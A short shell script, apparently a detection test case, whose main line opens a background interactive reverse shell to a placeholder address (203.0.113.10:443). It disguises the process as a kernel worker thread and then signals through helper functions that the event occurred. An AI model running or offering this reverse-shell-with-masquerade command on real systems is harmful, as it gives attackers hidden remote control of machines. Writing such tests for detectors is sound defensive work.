#!/bin/sh
. /opt/case/case.sh

bash -c 'exec -a "[kworker/1:1H]" bash -i >& /dev/tcp/203.0.113.10/443 0>&1' &
wait_for /tmp/reached
took_place
